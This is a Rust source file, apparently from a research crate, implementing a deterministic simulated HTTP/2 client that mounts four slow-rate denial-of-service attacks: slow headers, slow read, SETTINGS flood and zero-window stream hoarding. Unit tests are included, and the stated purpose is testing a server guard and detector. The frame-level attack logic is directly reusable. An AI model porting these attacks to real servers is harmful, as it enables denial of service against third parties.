//! Slow-rate HTTP/2 DoS attack clients (Tripathi, arXiv:2203.16796).
//!
//! [`DosClient`] is a sans-IO *malicious* HTTP/2 client: it speaks raw
//! frame bytes (no [`h2priv_http2::H2Connection`]) so it can do what a
//! conforming stack never would — dribble one CONTINUATION byte per RTO,
//! advertise a zero-byte stream window and hold responses hostage, or
//! flood SETTINGS frames — while staying *RFC-legal on the wire*. Every
//! frame it emits parses cleanly and satisfies the conformance ledgers;
//! the attacks abuse resource accounting, not the grammar. That legality
//! is the point of the slow-rate family: nothing on the wire is malformed,
//! so only resource/e­vent-sequence analysis (the guard and detector in
//! this crate) can tell an attacker from a slow client.
//!
//! The client is fully deterministic (no RNG): its schedule is fixed by
//! the configured interval, so runs are byte-identical at any thread
//! count.

use h2priv_http2::{
    encode_frame, flags, hpack, ErrorCode, Frame, FrameDecoder, FrameType, HeaderField, Settings,
    StreamId, CLIENT_PREFACE,
};
use h2priv_netsim::{SimDuration, SimTime};

/// The four slow-rate attack workloads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DosAttack {
    /// Open one request and trickle its header block one CONTINUATION
    /// byte per interval, never sending END_HEADERS: RFC 7540 §4.3 forbids
    /// the receiver from processing any other frame on the connection
    /// until the sequence completes, so one cheap connection pins a
    /// header-parser worker indefinitely.
    SlowHeaders,
    /// Request real objects, advertise a zero initial stream window, then
    /// drip one-byte WINDOW_UPDATEs per interval: the responses trickle
    /// out one byte at a time, holding their workers and mux state for the
    /// whole (unbounded) transfer. The "progress" defeats naive idle
    /// timeouts — only progress-*rate* enforcement catches it.
    SlowRead,
    /// Send an empty, non-ACK SETTINGS frame every interval: each one
    /// forces the server to apply it and queue an ACK (RFC 7540 §6.5.3),
    /// burning server cycles for six attacker bytes apiece.
    SettingsFlood,
    /// Open complete GET requests up to the server's advertised
    /// `SETTINGS_MAX_CONCURRENT_STREAMS` with a zero-byte stream window
    /// and then go silent: every response is ready but unsendable, so the
    /// whole worker pool sits blocked on flow control forever.
    ZeroWindowHoard,
}

impl DosAttack {
    /// All workloads, exhibit order.
    pub fn all() -> [DosAttack; 4] {
        [
            DosAttack::SlowHeaders,
            DosAttack::SlowRead,
            DosAttack::SettingsFlood,
            DosAttack::ZeroWindowHoard,
        ]
    }

    /// Stable display / CLI name.
    pub fn name(self) -> &'static str {
        match self {
            DosAttack::SlowHeaders => "slow-headers",
            DosAttack::SlowRead => "slow-read",
            DosAttack::SettingsFlood => "settings-flood",
            DosAttack::ZeroWindowHoard => "zero-window-hoard",
        }
    }

    /// Parses a CLI name.
    pub fn parse(name: &str) -> Option<DosAttack> {
        DosAttack::all().into_iter().find(|a| a.name() == name)
    }
}

/// Attack-client configuration.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DosConfig {
    /// Which workload to mount.
    pub attack: DosAttack,
    /// Pacing of the slow primitive: one CONTINUATION byte, one one-byte
    /// WINDOW_UPDATE per hoarded stream, or one SETTINGS frame per
    /// interval.
    pub interval: SimDuration,
    /// Streams to hoard (`SlowRead` / `ZeroWindowHoard`); capped by the
    /// server's advertised `SETTINGS_MAX_CONCURRENT_STREAMS`.
    pub streams: u32,
    /// Paths requested by the hoarding workloads (cycled across streams).
    /// Should name real objects so responses carry bodies worth holding.
    pub paths: Vec<String>,
}

impl Default for DosConfig {
    fn default() -> Self {
        DosConfig {
            attack: DosAttack::SlowHeaders,
            interval: SimDuration::from_millis(500),
            streams: u32::MAX,
            paths: vec!["/index.html".to_owned()],
        }
    }
}

impl DosConfig {
    /// The default workload setup for one attack variant.
    pub fn for_attack(attack: DosAttack) -> Self {
        let interval = match attack {
            // One control frame per ~RTO for the slow primitives; the
            // flood runs three orders of magnitude hotter.
            DosAttack::SettingsFlood => SimDuration::from_millis(5),
            _ => SimDuration::from_millis(500),
        };
        DosConfig {
            attack,
            interval,
            ..DosConfig::default()
        }
    }
}

/// Counters the exhibits report per attacker.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DosClientStats {
    /// Frames put on the wire (preface excluded).
    pub frames_sent: u64,
    /// CONTINUATION fragments dribbled.
    pub continuations_sent: u64,
    /// Non-ACK SETTINGS frames flooded.
    pub settings_sent: u64,
    /// One-byte WINDOW_UPDATE drips sent.
    pub window_updates_sent: u64,
    /// Request streams opened.
    pub streams_opened: u64,
    /// RST_STREAM frames received (shed or refused streams).
    pub resets_received: u64,
    /// Response body bytes the server managed to squeeze through.
    pub data_bytes_received: u64,
    /// When the attack primitive began (handshake done, first hostile
    /// frame staged).
    pub attack_started: Option<SimTime>,
    /// When the server shed this attacker (first `ENHANCE_YOUR_CALM`
    /// RST_STREAM or any GOAWAY), if it has.
    pub shed_at: Option<SimTime>,
}

/// Sans-IO malicious client. The host pumps it like an application:
/// server-direction plaintext in via [`DosClient::on_plaintext`], wire
/// bytes out via [`DosClient::poll_wire`], timer via
/// [`DosClient::next_wakeup`].
#[derive(Debug)]
pub struct DosClient {
    config: DosConfig,
    decoder: FrameDecoder,
    /// Wire bytes staged for the next [`poll_wire`](Self::poll_wire).
    out: Vec<u8>,
    /// Control responses (SETTINGS/PING ACKs) that must wait while our own
    /// HEADERS/CONTINUATION sequence is open (§4.3: nothing may
    /// interleave).
    deferred: Vec<u8>,
    deferred_frames: u64,
    started: bool,
    handshake_done: bool,
    server_settings: Settings,
    /// Remaining header-block bytes of the slow-headers trickle.
    trickle: Vec<u8>,
    /// True once our HEADERS frame opened the (never-ending) sequence.
    seq_open: bool,
    next_action: Option<SimTime>,
    opened: Vec<StreamId>,
    stats: DosClientStats,
}

impl DosClient {
    /// Creates the attacker; it stays silent until [`start`](Self::start).
    pub fn new(config: DosConfig) -> Self {
        DosClient {
            config,
            decoder: {
                // Only DATA lengths are read: no body bytes are copied.
                let mut decoder = FrameDecoder::new(false);
                decoder.set_opaque_data(true);
                decoder
            },
            out: Vec::new(),
            deferred: Vec::new(),
            deferred_frames: 0,
            started: false,
            handshake_done: false,
            server_settings: Settings::default(),
            trickle: Vec::new(),
            seq_open: false,
            next_action: None,
            opened: Vec::new(),
            stats: DosClientStats::default(),
        }
    }

    /// The configured workload.
    pub fn attack(&self) -> DosAttack {
        self.config.attack
    }

    /// Counters, with the attack's start and shed times.
    pub fn stats(&self) -> DosClientStats {
        self.stats
    }

    /// True once the server has shed the attack — the host may count the
    /// attacker finished.
    pub fn is_done(&self) -> bool {
        self.stats.shed_at.is_some()
    }

    /// Begins the connection: client preface plus our SETTINGS. The
    /// hoarding workloads advertise a zero-byte initial stream window —
    /// legal per RFC 7540 §6.9.2, and the whole point.
    pub fn start(&mut self, now: SimTime) {
        if self.started {
            return;
        }
        self.started = true;
        self.out.extend_from_slice(CLIENT_PREFACE);
        let initial_window_size = match self.config.attack {
            DosAttack::SlowRead | DosAttack::ZeroWindowHoard => 0,
            _ => Settings::default().initial_window_size,
        };
        let settings = Settings {
            initial_window_size,
            ..Settings::default()
        };
        self.push_frame(&Frame::Settings {
            ack: false,
            settings: settings.to_wire(),
        });
        // Poke the schedule so the attack launches as soon as the server's
        // SETTINGS lands (checked each wakeup).
        self.next_action = Some(now + self.config.interval);
    }

    fn push_frame(&mut self, frame: &Frame) {
        self.out.extend_from_slice(&encode_frame(frame));
        self.stats.frames_sent += 1;
    }

    /// Raw HEADERS frame carrying `block_fragment`, END_HEADERS *clear* —
    /// the codec never emits this shape, which is exactly why the attacker
    /// hand-rolls it.
    fn push_open_headers(&mut self, stream: StreamId, fragment: &[u8]) {
        self.push_raw(FrameType::Headers, flags::END_STREAM, stream, fragment);
    }

    fn push_continuation(&mut self, stream: StreamId, fragment: &[u8], end_headers: bool) {
        let fl = if end_headers { flags::END_HEADERS } else { 0 };
        self.push_raw(FrameType::Continuation, fl, stream, fragment);
        self.stats.continuations_sent += 1;
    }

    fn push_raw(&mut self, ty: FrameType, fl: u8, stream: StreamId, payload: &[u8]) {
        let len = payload.len();
        self.out.extend_from_slice(&[
            (len >> 16) as u8,
            (len >> 8) as u8,
            len as u8,
            ty.as_u8(),
            fl,
        ]);
        self.out.extend_from_slice(&stream.0.to_be_bytes());
        self.out.extend_from_slice(payload);
        self.stats.frames_sent += 1;
    }

    /// A complete GET for `path` on `stream` (END_HEADERS + END_STREAM).
    fn push_get(&mut self, enc: &mut hpack::Encoder, stream: StreamId, path: &str) {
        let block = enc.encode(&request_headers(path));
        self.push_raw(
            FrameType::Headers,
            flags::END_HEADERS | flags::END_STREAM,
            stream,
            &block,
        );
        self.opened.push(stream);
        self.stats.streams_opened += 1;
    }

    /// Launches the attack primitive once the server's SETTINGS arrived.
    fn launch(&mut self, now: SimTime) {
        self.stats.attack_started = Some(now);
        match self.config.attack {
            DosAttack::SlowHeaders => {
                // A fat header block gives the one-byte dribble an
                // effectively unbounded supply; the filler value is
                // incompressible garbage only in the sense that HPACK
                // won't shrink a unique literal.
                let mut headers = request_headers("/");
                headers.push(HeaderField::new("x-slow", "y".repeat(512)));
                let mut enc = hpack::Encoder::new();
                self.trickle = enc.encode(&headers);
                let first: Vec<u8> = self.trickle.drain(..1).collect();
                self.push_open_headers(StreamId(1), &first);
                self.seq_open = true;
                self.stats.streams_opened += 1;
            }
            DosAttack::SlowRead | DosAttack::ZeroWindowHoard => {
                let limit = self.server_settings.max_concurrent_streams;
                let n = self.config.streams.min(limit).max(1);
                let mut enc = hpack::Encoder::new();
                let paths = self.config.paths.clone();
                for i in 0..n {
                    let stream = StreamId(1 + 2 * i);
                    let path = &paths[i as usize % paths.len()];
                    self.push_get(&mut enc, stream, path);
                }
            }
            DosAttack::SettingsFlood => {} // pure ticker, below
        }
    }

    /// One pacing tick of the slow primitive.
    fn tick(&mut self, now: SimTime) {
        if self.stats.attack_started.is_none() {
            if !self.handshake_done {
                // Server SETTINGS not seen yet; check again next interval.
                self.next_action = Some(now + self.config.interval);
                return;
            }
            self.launch(now);
            // The hoard is one burst of opens followed by silence; the
            // other workloads keep their pacing tick alive.
            self.next_action = match self.config.attack {
                DosAttack::ZeroWindowHoard => None,
                _ => Some(now + self.config.interval),
            };
            return;
        }
        match self.config.attack {
            DosAttack::SlowHeaders => {
                // One byte per tick; once the block runs dry, zero-length
                // CONTINUATIONs (legal, never END_HEADERS) hold the
                // sequence open forever.
                let fragment: Vec<u8> = if self.trickle.is_empty() {
                    Vec::new()
                } else {
                    self.trickle.drain(..1).collect()
                };
                self.push_continuation(StreamId(1), &fragment, false);
            }
            DosAttack::SlowRead => {
                for i in 0..self.opened.len() {
                    let stream = self.opened[i];
                    self.push_frame(&Frame::WindowUpdate {
                        stream_id: stream,
                        increment: 1,
                    });
                    self.stats.window_updates_sent += 1;
                }
            }
            DosAttack::SettingsFlood => {
                self.push_frame(&Frame::Settings {
                    ack: false,
                    settings: vec![],
                });
                self.stats.settings_sent += 1;
            }
            DosAttack::ZeroWindowHoard => {} // silence is the attack
        }
        // The hoard goes quiet after launch; everything else keeps ticking.
        self.next_action = match self.config.attack {
            DosAttack::ZeroWindowHoard => None,
            _ => Some(now + self.config.interval),
        };
    }

    /// Feeds decrypted server-direction bytes in.
    pub fn on_plaintext(&mut self, bytes: &[u8], now: SimTime) {
        self.decoder.push(bytes);
        while let Ok(Some(frame)) = self.decoder.next_frame() {
            match frame {
                Frame::Settings { ack, settings } => {
                    if ack {
                        continue;
                    }
                    self.server_settings.apply(&settings);
                    self.handshake_done = true;
                    let ack = encode_frame(&Frame::Settings {
                        ack: true,
                        settings: vec![],
                    });
                    // §4.3: never interleave into our own open sequence.
                    if self.seq_open {
                        self.deferred.extend_from_slice(&ack);
                        self.deferred_frames += 1;
                    } else {
                        self.out.extend_from_slice(&ack);
                        self.stats.frames_sent += 1;
                    }
                }
                Frame::Ping { ack: false, data } => {
                    let pong = encode_frame(&Frame::Ping { ack: true, data });
                    if self.seq_open {
                        self.deferred.extend_from_slice(&pong);
                        self.deferred_frames += 1;
                    } else {
                        self.out.extend_from_slice(&pong);
                        self.stats.frames_sent += 1;
                    }
                }
                Frame::RstStream { error_code, .. } => {
                    self.stats.resets_received += 1;
                    if error_code == ErrorCode::EnhanceYourCalm && self.stats.shed_at.is_none() {
                        self.stats.shed_at = Some(now);
                    }
                }
                Frame::GoAway { .. } if self.stats.shed_at.is_none() => {
                    self.stats.shed_at = Some(now);
                }
                Frame::Data { data, .. } => {
                    self.stats.data_bytes_received += data.len() as u64;
                }
                _ => {}
            }
        }
    }

    /// Drains staged wire bytes, running any due pacing tick first.
    /// Returns an empty vec when there is nothing to send.
    pub fn poll_wire(&mut self, now: SimTime) -> Vec<u8> {
        if self.stats.shed_at.is_none() {
            while let Some(at) = self.next_action {
                if at > now {
                    break;
                }
                self.tick(now);
            }
        } else {
            self.next_action = None;
        }
        if !self.seq_open && !self.deferred.is_empty() {
            self.stats.frames_sent += self.deferred_frames;
            self.deferred_frames = 0;
            let deferred = std::mem::take(&mut self.deferred);
            self.out.extend_from_slice(&deferred);
        }
        std::mem::take(&mut self.out)
    }

    /// Next pacing deadline, if the attack is still live.
    pub fn next_wakeup(&self) -> Option<SimTime> {
        if self.stats.shed_at.is_some() {
            return None;
        }
        self.next_action
    }
}

/// The GET header list the attacker sends — shaped like the honest
/// browser's requests so nothing but the *pacing* is anomalous.
fn request_headers(path: &str) -> Vec<HeaderField> {
    vec![
        HeaderField::new(":method", "GET"),
        HeaderField::new(":scheme", "https"),
        HeaderField::new(":authority", "www.isidewith.com"),
        HeaderField::new(":path", path),
        HeaderField::new("user-agent", "h2priv-firefox/74.0"),
        HeaderField::new("accept", "*/*"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn drain_frames(bytes: &[u8]) -> Vec<Frame> {
        let mut dec = FrameDecoder::new(true);
        dec.push(bytes);
        std::iter::from_fn(|| dec.next_frame().expect("attacker bytes parse")).collect()
    }

    fn handshake(client: &mut DosClient, now: SimTime) -> Vec<u8> {
        client.start(now);
        let server_settings = encode_frame(&Frame::Settings {
            ack: false,
            settings: Settings::default().to_wire(),
        });
        client.on_plaintext(&server_settings, now);
        client.poll_wire(now)
    }

    #[test]
    fn attack_names_roundtrip() {
        for a in DosAttack::all() {
            assert_eq!(DosAttack::parse(a.name()), Some(a));
        }
        assert_eq!(DosAttack::parse("nope"), None);
    }

    #[test]
    fn slow_headers_dribbles_continuations() {
        let mut c = DosClient::new(DosConfig::for_attack(DosAttack::SlowHeaders));
        let t0 = SimTime::ZERO;
        handshake(&mut c, t0);
        // First tick opens the sequence; later ticks each add one byte.
        let t1 = t0 + SimDuration::from_millis(500);
        let bytes = c.poll_wire(t1);
        // HEADERS without END_HEADERS cannot complete in the decoder...
        let mut dec = FrameDecoder::new(false);
        dec.push(&bytes);
        assert!(dec.next_frame().unwrap().is_none());
        assert_eq!(dec.in_progress_header_stream(), Some(StreamId(1)));
        for i in 2..6 {
            let t = t0 + SimDuration::from_millis(500 * i);
            let frag = c.poll_wire(t);
            assert!(!frag.is_empty(), "tick {i} dribbles");
            dec.push(&frag);
            assert!(dec.next_frame().unwrap().is_none());
        }
        assert!(c.stats().continuations_sent >= 4);
        assert_eq!(dec.in_progress_header_stream(), Some(StreamId(1)));
    }

    #[test]
    fn zero_window_hoard_opens_up_to_the_advertised_limit() {
        let mut c = DosClient::new(DosConfig::for_attack(DosAttack::ZeroWindowHoard));
        let t0 = SimTime::ZERO;
        let hello = handshake(&mut c, t0);
        let frames = drain_frames(&hello);
        let our_settings = frames
            .iter()
            .find_map(|f| match f {
                Frame::Settings {
                    ack: false,
                    settings,
                } => Some(settings.clone()),
                _ => None,
            })
            .expect("attacker sends SETTINGS");
        let mut s = Settings::default();
        s.apply(&our_settings);
        assert_eq!(s.initial_window_size, 0, "the hoard advertises no credit");
        let t1 = t0 + SimDuration::from_millis(500);
        let opens = drain_frames(&[hello, c.poll_wire(t1)].concat());
        let headers: Vec<StreamId> = opens
            .iter()
            .filter_map(|f| match f {
                Frame::Headers { stream_id, .. } => Some(*stream_id),
                _ => None,
            })
            .collect();
        assert_eq!(
            headers.len() as u32,
            Settings::default().max_concurrent_streams
        );
        assert_eq!(headers[0], StreamId(1));
        // Then silence.
        assert_eq!(c.next_wakeup(), None);
    }

    #[test]
    fn settings_flood_ticks_every_interval() {
        let mut c = DosClient::new(DosConfig::for_attack(DosAttack::SettingsFlood));
        let t0 = SimTime::ZERO;
        handshake(&mut c, t0);
        // Pump like the host does: one poll per scheduled wakeup.
        let mut now = t0;
        while now < t0 + SimDuration::from_millis(100) {
            now = c.next_wakeup().expect("flood keeps ticking");
            c.poll_wire(now);
        }
        // 5 ms pacing: ~20 ticks in 100 ms, the first spent on launch.
        assert!(c.stats().settings_sent >= 15, "{:?}", c.stats());
    }

    #[test]
    fn goaway_sheds_the_attack() {
        let mut c = DosClient::new(DosConfig::for_attack(DosAttack::SlowRead));
        let t0 = SimTime::ZERO;
        handshake(&mut c, t0);
        c.poll_wire(t0 + SimDuration::from_millis(500));
        assert!(c.stats().attack_started.is_some());
        let t = t0 + SimDuration::from_secs(2);
        c.on_plaintext(
            &encode_frame(&Frame::GoAway {
                last_stream_id: StreamId(0),
                error_code: ErrorCode::EnhanceYourCalm,
            }),
            t,
        );
        assert_eq!(c.stats().shed_at, Some(t));
        assert!(c.is_done());
        assert_eq!(c.next_wakeup(), None);
    }
}
